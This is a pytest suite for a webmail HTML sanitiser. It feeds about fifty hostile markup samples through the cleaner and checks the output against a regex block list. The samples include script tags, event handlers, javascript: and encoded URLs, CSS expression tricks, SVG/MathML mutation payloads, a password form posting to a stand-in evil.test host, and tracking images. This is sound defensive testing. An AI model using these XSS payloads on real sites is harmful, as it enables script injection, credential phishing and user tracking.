"""Sanitising message HTML: a corpus of hostile markup leaves nothing that runs or loads."""

from __future__ import annotations

import re

import pytest

from mailcore.webclient import sanitize

# Each entry tries one way to run script, submit, navigate or load something unasked.
HOSTILE = {
    "script tag": "<p>hi</p><script>document.title='pwned'</script>",
    "script uppercase": "<SCRIPT SRC=http://evil.test/x.js></SCRIPT>",
    "script split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "onerror": "<img src=x onerror=\"document.title='pwned'\">",
    "onload body": "<body onload=\"alert(1)\"><p>text</p></body>",
    "onmouseover": "<div onmouseover=\"alert(1)\">hover</div>",
    "javascript href": "<a href=\"javascript:alert(1)\">click</a>",
    "javascript entity href": "<a href=\"jav&#x09;ascript:alert(1)\">click</a>",
    "javascript encoded": "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;"
                          "&#58;alert(1)\">x</a>",
    "vbscript href": "<a href=\"vbscript:msgbox(1)\">x</a>",
    "data html link": "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2Ny"
                      "aXB0Pg==\">x</a>",
    "css expression": "<div style=\"width: expression(alert(1))\">x</div>",
    "css escaped expression": "<div style=\"width: e\\78pression(alert(1))\">x</div>",
    "css javascript url": "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "css behavior": "<div style=\"behavior: url(evil.htc)\">x</div>",
    "css moz binding": "<div style=\"-moz-binding: url(http://evil.test/x.xml#x)\">x</div>",
    "css import": "<style>@import url(http://evil.test/x.css); p{color:red}</style>",
    "css escaped url": "<div style=\"background: u\\72l(http://evil.test/track.gif)\">x</div>",
    "css remote background": "<style>body{background:url('http://evil.test/bg.png')}</style>",
    "css closing style": "<style>p{color:red}</style><style></style><script>alert(1)</script>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg onload": "<svg onload=\"alert(1)\"><circle r=\"5\"/></svg>",
    "svg image": "<svg><image href=\"http://evil.test/x.png\"/></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "form": "<form action=\"http://evil.test/steal\"><input name=pw type=password>"
            "<button>Log in</button></form>",
    "meta refresh": "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.test/\">",
    "iframe": "<iframe src=\"http://evil.test/\"></iframe>",
    "iframe srcdoc": "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "object": "<object data=\"http://evil.test/x.swf\"></object>",
    "embed": "<embed src=\"http://evil.test/x.swf\">",
    "base href": "<base href=\"http://evil.test/\"><a href=\"/x\">x</a>",
    "link stylesheet": "<link rel=\"stylesheet\" href=\"http://evil.test/x.css\">",
    "remote image": "<img src=\"http://evil.test/track.gif?u=alice\">",
    "protocol-relative image": "<img src=\"//evil.test/track.gif\">",
    "srcset": "<img srcset=\"http://evil.test/a.png 1x\">",
    "background attribute": "<table background=\"http://evil.test/bg.png\"><tr><td>x</td></tr></table>",
    "video poster": "<video poster=\"http://evil.test/p.png\"><source src=\"http://evil.test/v\"></video>",
    "audio": "<audio src=\"http://evil.test/a.mp3\" autoplay></audio>",
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "template": "<template><script>alert(1)</script></template>",
    "comment trick": "<!--<img src=x onerror=alert(1)>--><p>ok</p>",
    "formaction": "<button formaction=\"javascript:alert(1)\">x</button>",
    "xlink": "<a xlink:href=\"javascript:alert(1)\">x</a>",
    "ping": "<a href=\"https://ok.test/\" ping=\"http://evil.test/ping\">x</a>",
    "details ontoggle": "<details open ontoggle=\"alert(1)\"><summary>s</summary></details>",
    "dialog": "<dialog open onclose=\"alert(1)\">x</dialog>",
    "applet": "<applet code=\"Evil.class\"></applet>",
    "frameset": "<frameset><frame src=\"http://evil.test/\"></frameset>",
    "import map": "<script type=\"importmap\">{}</script>",
    "style attribute script": "<p style=\"color:red;}</style><script>alert(1)</script>\">x</p>",
    "null byte": "<scri\x00pt>alert(1)</scri\x00pt><img src=x o\x00nerror=alert(1)>",
}

FORBIDDEN = [
    r"<script", r"<svg", r"<math", r"<iframe", r"<form", r"<input", r"<button", r"<meta",
    r"<base", r"<link", r"<object", r"<embed", r"<applet", r"<frame", r"<video", r"<audio",
    r"<template", r"<noscript", r"\bon[a-z]+\s*=", r"javascript:", r"vbscript:",
    r"expression\s*\(", r"@import", r"-moz-binding", r"behaviou?r\s*:", r"evil\.test",
    r"srcset", r"data:text", r"ping=", r"formaction", r"srcdoc", r"http-equiv",
]


def _no_cid(url: str) -> None:
    return None


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_html_keeps_nothing_that_runs_or_loads(name: str) -> None:
    cleaned = sanitize.clean_html(HOSTILE[name], cid_url=_no_cid).html
    for pattern in FORBIDDEN:
        assert not re.search(pattern, cleaned, re.IGNORECASE), (name, pattern, cleaned)


def test_remote_images_are_blocked_and_reported_until_allowed() -> None:
    source = '<p>Hi</p><img src="https://cdn.shop.test/logo.png" alt="Logo">'
    blocked = sanitize.clean_html(source, cid_url=_no_cid)
    assert blocked.blocked_remote
    assert "cdn.shop.test" not in blocked.html
    assert 'alt="Logo"' in blocked.html
    allowed = sanitize.clean_html(source, cid_url=_no_cid, allow_remote=True)
    assert 'src="https://cdn.shop.test/logo.png"' in allowed.html
    assert not allowed.blocked_remote


def test_remote_css_backgrounds_count_as_remote_content() -> None:
    source = '<div style="background-image: url(https://cdn.shop.test/bg.png)">x</div>'
    blocked = sanitize.clean_html(source, cid_url=_no_cid)
    assert blocked.blocked_remote and "cdn.shop.test" not in blocked.html
    allowed = sanitize.clean_html(source, cid_url=_no_cid, allow_remote=True)
    assert "https://cdn.shop.test/bg.png" in allowed.html


def test_javascript_stays_out_even_when_remote_content_is_allowed() -> None:
    for name, source in HOSTILE.items():
        cleaned = sanitize.clean_html(source, cid_url=_no_cid, allow_remote=True).html
        for pattern in (r"<script", r"\bon[a-z]+\s*=", r"javascript:", r"<iframe", r"<form",
                        r"<meta", r"<base", r"expression\s*\("):
            assert not re.search(pattern, cleaned, re.IGNORECASE), (name, pattern, cleaned)


def test_cid_images_are_rewritten_to_the_inline_part_url() -> None:
    cleaned = sanitize.clean_html(
        '<img src="cid:logo%40shop.test"><img src="cid:missing">',
        cid_url=lambda url: "/webmail/inline/T/" if "logo" in url else None).html
    assert '<img src="/webmail/inline/T/">' in cleaned
    assert "missing" not in cleaned


def test_data_urls_are_kept_only_for_images() -> None:
    cleaned = sanitize.clean_html(
        '<img src="data:image/png;base64,iVBORw0KGgo=">'
        '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
        cid_url=_no_cid).html
    assert "data:image/png;base64,iVBORw0KGgo=" in cleaned
    assert "svg" not in cleaned


def test_links_open_in_a_new_tab_without_referrer() -> None:
    cleaned = sanitize.clean_html('<a href="https://shop.test/offer">Offer</a>',
                                  cid_url=_no_cid).html
    assert 'href="https://shop.test/offer"' in cleaned
    assert 'target="_blank"' in cleaned and 'rel="noopener noreferrer"' in cleaned


def test_newsletter_layout_survives() -> None:
    source = ('<html><head><title>Deals</title><style>.box { color: #333; } td > p '
              '{ margin: 0 }</style></head><body><table width="600" bgcolor="#ffffff">'
              '<tr><td class="box" style="padding: 8px; color: red">Sale</td></tr></table>'
              '</body></html>')
    cleaned = sanitize.clean_html(source, cid_url=_no_cid).html
    assert "<style>" in cleaned and ".box { color: #333; }" in cleaned
    assert "td > p" in cleaned
    assert 'width="600"' in cleaned and 'bgcolor="#ffffff"' in cleaned
    assert "padding: 8px" in cleaned
    assert "Deals" not in cleaned  # the title is not body text


def test_the_frame_policy_forbids_scripts_and_remote_loads_by_default() -> None:
    policy = sanitize.document_policy("https://mail.test/webmail/inline/", allow_remote=False)
    assert "default-src 'none'" in policy
    assert "img-src data: https://mail.test/webmail/inline/;" in policy
    assert "style-src 'unsafe-inline'" in policy
    assert "script" not in policy.replace("sandbox", "")
    assert "sandbox" in policy and "allow-scripts" not in policy
    allowed = sanitize.document_policy("https://mail.test/webmail/inline/", allow_remote=True)
    assert "img-src data: https://mail.test/webmail/inline/ https: http:;" in allowed


def test_text_becomes_escaped_html_with_clickable_links() -> None:
    html = sanitize.text_to_html("See <b>https://shop.test/a?x=1&y=2</b>. Or "
                                 "javascript:alert(1)")
    assert "&lt;b&gt;" in html
    assert '<a href="https://shop.test/a?x=1&amp;y=2" target="_blank"' in html
    assert "<a href=\"javascript" not in html


def test_html_becomes_readable_text_for_quoting() -> None:
    text = sanitize.html_to_text("<style>p{}</style><p>Hello <b>you</b></p><ul><li>one</li>"
                                 "<li>two</li></ul><script>x()</script>Bye")
    assert text.splitlines() == ["Hello you", "", "- one", "- two", "Bye"]
